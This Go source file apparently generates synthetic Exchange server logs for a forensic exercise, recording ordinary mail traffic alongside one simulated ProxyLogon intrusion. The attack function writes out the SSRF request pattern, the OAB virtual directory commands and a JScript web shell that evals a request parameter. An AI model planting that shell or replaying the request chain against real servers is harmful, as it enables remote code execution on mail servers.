package main

import (
	"fmt"
	"strings"
	"time"
)

// proxyLogon writes the logs of an Exchange server, EX1, that is taken through CVE-2021-26855 and CVE-2021-27065 in the
// middle of ordinary work: a web shell is written, looked for, and used.
func proxyLogon(w *world) []byte {
	ex := &exchange{w: w, proxy: make(map[string]*journal)}
	from := time.Date(2021, 3, 2, 20, 0, 0, 0, time.UTC)
	to := time.Date(2021, 3, 3, 14, 0, 0, 0, time.UTC)
	ex.work(from, to)
	ex.probes(from, to)
	ex.attack(time.Date(2021, 3, 3, 6, 49, 42, 162e6, time.UTC))
	return zipOf(ex.files(from, to))
}

const (
	shell    = "/owa/auth/RedirSuiteServerProxy.aspx"
	attacker = "203.0.113.21"
	visitor  = "203.0.113.77"
)

// exchange is a server and its logs.
type exchange struct {
	w     *world
	proxy map[string]*journal // HttpProxy, by protocol
	iis   journal
	ecp   journal
}

// request is a request to the front end, as two logs have it.
type request struct {
	at                             time.Time
	protocol, method, stem, query  string
	user, client, agent, anchor    string
	routing, hint                  string
	status, received, sent, millis int
	onlyIIS                        bool
}

func (ex *exchange) add(r request) {
	id := ex.w.guid()
	user := "-"
	if r.user != "" {
		user = `CORP\` + r.user
	}
	query := r.query
	if query != "" {
		query += "&"
	}
	query += "CorrelationID=<empty>;&cafeReqId=" + id + ";"
	sub, win32 := 0, 0
	if r.status == 401 && r.user != "" {
		sub, win32 = 1, 1326
	}
	ex.iis.add(r.at, "%s 10.1.0.5 %s %s %s 443 %s %s %s - %d %d %d %d", r.at.Format("2006-01-02 15:04:05"), r.method, r.stem, query, user, r.client,
		strings.ReplaceAll(r.agent, " ", "+"), r.status, sub, win32, r.millis)
	if r.onlyIIS || r.status == 401 {
		return // the front end does not log refused anonymous requests
	}
	j := ex.proxy[r.protocol]
	if j == nil {
		j = new(journal)
		ex.proxy[r.protocol] = j
	}
	anchor, routing := r.anchor, r.routing
	if anchor == "" && r.user != "" {
		anchor = "Smtp~" + r.user + "@corp.example"
	}
	if routing == "" {
		routing = "IntraForest"
	}
	auth := "FBA"
	if r.protocol == "Ews" || r.protocol == "Mapi" || r.protocol == "Eas" {
		auth = "Negotiate"
	}
	begin := r.at.Add(-time.Duration(r.millis) * time.Millisecond).Format(zulu)
	loggedUser := ""
	if r.user != "" {
		loggedUser = user
	}
	values := map[string]string{
		"DateTime": r.at.Format(zulu), "RequestId": id, "MajorVersion": "15", "MinorVersion": "1", "BuildVersion": "2106", "RevisionVersion": "2",
		"Protocol": r.protocol, "UrlHost": "mail.corp.example", "UrlStem": r.stem, "AuthenticationType": auth, "IsAuthenticated": fmt.Sprint(r.user != ""),
		"AuthenticatedUser": loggedUser, "AnchorMailbox": anchor, "UserAgent": strings.ReplaceAll(r.agent, ",", " "), "ClientIpAddress": r.client,
		"ServerHostName": "EX1", "HttpStatus": fmt.Sprint(r.status), "BackEndStatus": fmt.Sprint(r.status), "Method": r.method, "ProxyAction": "Proxy",
		"TargetServer": "ex1.corp.example", "TargetServerVersion": "15.01.2106.000", "RoutingType": routing, "RoutingHint": r.hint,
		"RequestBytes": fmt.Sprint(r.received), "ResponseBytes": fmt.Sprint(r.sent), "TotalRequestTime": fmt.Sprint(r.millis), "UrlQuery": r.query,
		"GenericInfo":   "BeginRequest=" + begin + ";CorrelationID=<empty>;ProxyState-Run=None;ProxyState-Complete=ProxyResponseData;EndRequest=" + r.at.Format(zulu) + ";",
		"RoutingStatus": "CafeV1",
	}
	fields := make([]string, len(httpProxyFields))
	for i, f := range httpProxyFields {
		fields[i] = values[f]
	}
	j.add(r.at, "%s", strings.Join(fields, ","))
}

const zulu = "2006-01-02T15:04:05.000Z"

// httpProxyFields is the header of Exchange 2016 CU19 and later.
var httpProxyFields = strings.Split("DateTime,RequestId,MajorVersion,MinorVersion,BuildVersion,RevisionVersion,ClientRequestId,Protocol,UrlHost,UrlStem,ProtocolAction,AuthenticationType,IsAuthenticated,AuthenticatedUser,Organization,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,ErrorCode,Method,ProxyAction,TargetServer,TargetServerVersion,RoutingType,RoutingHint,BackEndCookie,ServerLocatorHost,ServerLocatorLatency,RequestBytes,ResponseBytes,TargetOutstandingRequests,AuthModulePerfContext,HttpPipelineLatency,CalculateTargetBackEndLatency,GlsLatencyBreakup,TotalGlsLatency,AccountForestLatencyBreakup,TotalAccountForestLatency,ResourceForestLatencyBreakup,TotalResourceForestLatency,ADLatency,SharedCacheLatencyBreakup,TotalSharedCacheLatency,ActivityContextLifeTime,ModuleToHandlerSwitchingLatency,ClientReqStreamLatency,BackendReqInitLatency,BackendReqStreamLatency,BackendProcessingLatency,BackendRespInitLatency,BackendRespStreamLatency,ClientRespStreamLatency,KerberosAuthHeaderLatency,HandlerCompletionLatency,RequestHandlerLatency,HandlerToModuleSwitchingLatency,ProxyTime,CoreLatency,RoutingLatency,HttpProxyOverhead,TotalRequestTime,RouteRefresherLatency,UrlQuery,BackEndGenericInfo,GenericInfo,GenericErrors,EdgeTraceId,DatabaseGuid,UserADObjectGuid,PartitionEndpointLookupLatency,RoutingStatus", ",")

// work is what people do in a day.
func (ex *exchange) work(from, to time.Time) {
	w := ex.w
	for hour := from; hour.Before(to); hour = hour.Add(time.Hour) {
		n := 12
		if h := hour.Hour(); h >= 6 && h < 17 {
			n = 90
		}
		for range n {
			p := w.people[w.IntN(len(w.people))]
			r := request{at: w.between(hour, hour.Add(time.Hour)), user: p.name, client: p.office, agent: p.agent, status: 200,
				received: 200 + w.IntN(900), sent: 400 + w.IntN(40_000), millis: 8 + w.IntN(400)}
			switch w.IntN(6) {
			case 0:
				r.protocol, r.method, r.stem, r.query = "Owa", "POST", "/owa/service.svc", "action=FindConversation&EP=1&UA=0&ID=-"+fmt.Sprint(w.IntN(90)+1)+"&AC=1"
			case 1:
				r.protocol, r.method, r.stem = "Owa", "GET", "/owa/"
			case 2:
				r.protocol, r.method, r.stem, r.agent = "Ews", "POST", "/EWS/Exchange.asmx", "MacOutlook/16.46.21021202 (Intelx64 Mac OS X Version 10.15.7)"
			case 3:
				r.protocol, r.method, r.stem, r.query, r.agent = "Mapi", "POST", "/mapi/emsmdb/", "mailboxId="+w.guid()+"@corp.example", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13628; Pro)"
			case 4:
				r.protocol, r.method, r.stem, r.client, r.agent = "Eas", "POST", "/Microsoft-Server-ActiveSync/default.eas", p.home, "Apple-iPhone12C1/1804.50"
				r.query = "Cmd=" + w.pick([]string{"Ping", "Sync", "FolderSync"}) + "&User=" + p.name + "&DeviceId=" + strings.ToUpper(fmt.Sprintf("%x%s", p.name, "7f3a91")) + "&DeviceType=iPhone"
			case 5:
				r.protocol, r.method, r.stem, r.agent = "Autodiscover", "POST", "/autodiscover/autodiscover.xml", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.13628; Pro)"
			}
			ex.add(r)
			if w.IntN(60) == 0 { // somebody mistypes a password
				r.status, r.stem, r.protocol, r.query, r.at = 401, "/EWS/Exchange.asmx", "Ews", "", r.at.Add(-20*time.Second)
				ex.add(r)
			}
		}
	}
}

// probes are the requests by which Managed Availability sees whether the server works.
func (ex *exchange) probes(from, to time.Time) {
	health := "HealthMailboxc3d7722415ad41a5b19e3e00e165edbe"
	for t := from; t.Before(to); t = t.Add(5 * time.Minute) {
		for i, p := range []struct{ protocol, method, stem, agent string }{
			{"Owa", "GET", "/owa/healthcheck.htm", "AMProbe/Local/ClientAccess"},
			{"Ecp", "GET", "/ecp/healthcheck.htm", "AMProbe/Local/ClientAccess"},
			{"Ews", "POST", "/EWS/Exchange.asmx", "AMProbe/Local/ClientAccess"},
		} {
			ex.add(request{at: t.Add(time.Duration(7+i) * time.Second), protocol: p.protocol, method: p.method, stem: p.stem, agent: p.agent, user: health,
				client: "::1", status: 200, received: 60, sent: 700, millis: 12})
		}
		ex.ecp.add(t.Add(11*time.Second), "%s,EX1,ECP.Request,S:TIME=13;S:SID=%s;S:CMD=Get-InboxRule;S:REQID=;S:URL=/ecp/RulesEditor/InboxRules.svc/GetList?msExchEcpCanary=CANARY;S:REFERRER=;S:EX=;S:ACTID=%s;S:RS=0;S:BLD=15.1.2106.2;S:TNAME=<null>;S:TID=;S:USID=%s;S:EDOID=;S:ACID=",
			t.Add(11*time.Second).Format(zulu), ex.w.guid(), ex.w.guid(), ex.w.guid())
	}
}

// attack is one run of the exploit, in the order and at the pace at which such runs were seen, and what came of it.
func (ex *exchange) attack(t time.Time) {
	ssrf := func(after time.Duration, path string, status, sent int) {
		agent := "python-requests/2.25.1"
		if strings.HasPrefix(path, "autodiscover") {
			agent = "ExchangeServicesClient/0.0.0.0"
		}
		ex.add(request{at: t.Add(after), protocol: "Ecp", method: "POST", stem: "/ecp/y.js", client: attacker, agent: agent, status: status,
			anchor: "ServerInfo~a]@ex1.corp.example:444/" + path + "#", routing: "CrossRegion", hint: "X-BEResource-Cookie", received: 610, sent: sent, millis: 120})
	}
	const canary = "msExchEcpCanary=Xq4mB1cT0EuW9v3JrZ2hLkPd6sYtNw."
	ssrf(0, "autodiscover/autodiscover.xml?", 200, 3344)
	ssrf(1537*time.Millisecond, "mapi/emsmdb/?", 200, 1620)
	ssrf(4048*time.Millisecond, "ecp/proxyLogon.ecp?", 241, 0)
	ssrf(9381*time.Millisecond, "ecp/DDI/DDIService.svc/GetObject?"+canary+"&schema=OABVirtualDirectory", 200, 3071)
	ssrf(14902*time.Millisecond, "ecp/DDI/DDIService.svc/SetObject?"+canary+"&schema=OABVirtualDirectory", 200, 512)
	ssrf(17214*time.Millisecond, "ecp/DDI/DDIService.svc/SetObject?"+canary+"&schema=ResetOABVirtualDirectory", 200, 640)
	ssrf(20140*time.Millisecond, "ecp/DDI/DDIService.svc/SetObject?"+canary+"&schema=OABVirtualDirectory", 200, 498)
	ssrf(21*time.Minute, "EWS/Exchange.asmx?", 200, 48211)

	ecp := func(after time.Duration, cmd string) {
		at := t.Add(after)
		ex.ecp.add(at, `%s,EX1,ECP.Request,"S:TIME=311;S:SID=%s;S:CMD=%s;S:REQID=;S:URL=/ecp/DDI/DDIService.svc/SetObject?%s&schema=OABVirtualDirectory;S:REFERRER=;S:EX=;S:ACTID=%s;S:RS=0;S:BLD=15.1.2106.2"`,
			at.Format(zulu), ex.w.guid(), strings.ReplaceAll(cmd, `"`, `""`), canary, ex.w.guid())
	}
	ecp(9500*time.Millisecond, "Get-OabVirtualDirectory.ADPropertiesOnly=$true.Identity=$null")
	ecp(15*time.Second, `Set-OabVirtualDirectory.ExternalUrl='http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["pk7c1d"],"unsafe");}</script>'.Identity='`+ex.w.guid()+`'`)
	ecp(17400*time.Millisecond, `Remove-OABVirtualDirectory.Force=$true.Identity='`+ex.w.guid()+`'`)
	ecp(17600*time.Millisecond, `New-OABVirtualDirectory.WebSiteName='Default Web Site'.Server='EX1'.Role='ClientAccess'.InternalURL='https://ex1.corp.example/OAB'.Path='C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB'`)

	visit := func(at time.Time, method, client, agent string, status, sent int) {
		ex.add(request{at: at, protocol: "Owa", method: method, stem: shell, client: client, agent: agent, status: status, received: 300, sent: sent, millis: 140})
	}
	visit(t.Add(10*time.Minute), "GET", attacker, "python-requests/2.25.1", 200, 2201)
	for i := range 9 { // commands
		visit(t.Add(12*time.Minute+time.Duration(i*37)*time.Second), "POST", attacker, "antSword/v2.1", 200, 900+i*211)
	}
	visit(t.Add(5*time.Hour+11*time.Minute), "GET", visitor, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/65.0.2345 Safari/537.36", 200, 2201)
}

// files returns the logs as they lie on the server: HttpProxy hour by hour, IIS day by day.
func (ex *exchange) files(from, to time.Time) []file {
	var out []file
	for _, protocol := range []string{"Autodiscover", "Eas", "Ecp", "Ews", "Mapi", "Owa"} {
		j := ex.proxy[protocol]
		for hour := from; hour.Before(to); hour = hour.Add(time.Hour) {
			lines := j.bytes(hour, hour.Add(time.Hour), "\r\n")
			if len(lines) == 0 {
				continue
			}
			header := strings.Join(httpProxyFields, ",")
			head := header + "\r\n#Software: Microsoft Exchange Server\r\n#Version: 15.01.2106.002\r\n#Log-type: HttpProxy Logs\r\n#Date: " + hour.Format(zulu) + "\r\n#Fields: " + header + "\r\n"
			out = append(out, file{"EX1/Logging/HttpProxy/" + protocol + "/HttpProxy_" + hour.Format("2006010215") + "-1.LOG", hour.Add(time.Hour), append([]byte("\ufeff"+head), lines...)})
		}
	}
	for day := from.Truncate(24 * time.Hour); day.Before(to); day = day.Add(24 * time.Hour) {
		next := day.Add(24 * time.Hour)
		head := "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: " + day.Format("2006-01-02 15:04:05") +
			"\r\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n"
		out = append(out, file{"EX1/W3SVC1/u_ex" + day.Format("060102") + ".log", next, append([]byte(head), ex.iis.bytes(day, next, "\r\n")...)})
		head = "#Software: Microsoft Exchange Server\r\n#Version: 15.0.0.0\r\n#Log-type: ECP Server Log\r\n#Date: " + day.Format(zulu) + "\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n"
		out = append(out, file{"EX1/Logging/ECP/Server/ECPServer" + day.Format("20060102") + "-1.LOG", next, append([]byte(head), ex.ecp.bytes(day, next, "\r\n")...)})
	}
	return out
}
